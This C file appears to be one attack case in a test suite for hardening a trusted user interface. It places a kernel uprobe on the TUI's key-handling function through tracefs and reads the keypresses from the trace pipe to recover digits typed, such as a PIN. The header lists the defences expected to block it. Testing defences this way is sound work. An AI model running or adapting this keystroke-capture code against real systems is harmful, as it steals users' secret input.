// SPDX-License-Identifier: Apache-2.0
/*
 * Has the kernel trace a function of the trusted user interface, with its arguments:
 * tui_dialog_key(dialog, key).
 *
 * attack: uprobe
 * class: process
 * when: session
 * judge: keys
 * defence: confinement
 * why: uprobe_events in tracefs; the REE cannot mount tracefs, lockdown refuses to open it, and
 *      the module refuses a process whose code has a breakpoint in it
 */
#include <elf.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <unistd.h>

#include "evdev.h"
#include "file.h"
#include "report.h"

#define TUI		"/usr/sbin/tconn-tui"
#define FUNCTION	"tui_dialog_key"
#define TRACEFS		"/sys/kernel/tracing"
#define EVENT		TRACEFS "/events/attack/key/enable"

static const char *map_tui(void)
{
	int fd = open(TUI, O_RDONLY | O_CLOEXEC);
	struct stat st;
	void *map;

	if (fd < 0 || fstat(fd, &st))
		return NULL;
	map = mmap(NULL, (size_t)st.st_size, PROT_READ, MAP_PRIVATE, fd, 0);
	close(fd);
	return map == MAP_FAILED ? NULL : map;
}

static const Elf64_Shdr *find_symbols(const char *elf)
{
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)elf;
	const Elf64_Shdr *sections = (const Elf64_Shdr *)(elf + header->e_shoff);
	int i;

	for (i = 0; i < header->e_shnum; i++)
		if (sections[i].sh_type == SHT_SYMTAB)
			return &sections[i];
	return NULL;
}

static uint64_t address_of(const char *elf, const char *name)
{
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)elf;
	const Elf64_Shdr *sections = (const Elf64_Shdr *)(elf + header->e_shoff);
	const Elf64_Shdr *table = find_symbols(elf);
	const Elf64_Sym *symbol, *end;
	const char *names;

	if (!table)
		return 0;
	names = elf + sections[table->sh_link].sh_offset;
	symbol = (const Elf64_Sym *)(elf + table->sh_offset);
	end = symbol + table->sh_size / sizeof(*symbol);
	for (; symbol < end; symbol++)
		if (!strcmp(names + symbol->st_name, name))
			return symbol->st_value;
	return 0;
}

static uint64_t offset_of(const char *elf, uint64_t address)
{
	const Elf64_Ehdr *header = (const Elf64_Ehdr *)elf;
	const Elf64_Phdr *segment = (const Elf64_Phdr *)(elf + header->e_phoff);
	int i;

	for (i = 0; i < header->e_phnum; i++, segment++)
		if (segment->p_type == PT_LOAD && address >= segment->p_vaddr &&
		    address < segment->p_vaddr + segment->p_filesz)
			return address - segment->p_vaddr + segment->p_offset;
	return 0;
}

static int make_probe(uint64_t offset)
{
	char line[128];
	int ret;

	if (mount("tracefs", TRACEFS, "tracefs", 0, NULL) && errno != EBUSY)
		return -errno;
	snprintf(line, sizeof(line), "p:attack/key " TUI ":0x%lx key=%%si:u16", offset);
	ret = file_write(TRACEFS "/uprobe_events", line);
	return ret ? ret : file_write(EVENT, "1");
}

static void remove_probe(void)
{
	file_write(EVENT, "0");
	file_write(TRACEFS "/uprobe_events", "-:attack/key");
	umount(TRACEFS);
}

static void read_trace(int trace, char *digits, size_t size)
{
	char buf[4096], *at = buf, digit;
	ssize_t got = read(trace, buf, sizeof(buf) - 1);
	size_t len = strlen(digits);

	buf[got < 0 ? 0 : got] = '\0';
	while ((at = strstr(at, "key="))) {
		at += strlen("key=");
		digit = evdev_digit((unsigned int)atoi(at));
		if (digit && len + 1 < size)
			digits[len++] = digit;
	}
}

int main(void)
{
	const char *elf = map_tui();
	uint64_t address = elf ? address_of(elf, FUNCTION) : 0;
	char digits[256] = "";
	int ret, trace;

	attack_init();
	if (!address)
		attack_failed(TUI " has no symbol " FUNCTION);
	ret = make_probe(offset_of(elf, address));
	attack_ready();
	if (ret)
		attack_failed("no probe: %s", strerror(-ret));
	trace = open(TRACEFS "/trace_pipe", O_RDONLY | O_NONBLOCK | O_CLOEXEC);
	while (!attack_wait(50))
		read_trace(trace, digits, sizeof(digits));
	close(trace);
	remove_probe();
	attack_digits(digits);
	attack_done();
}
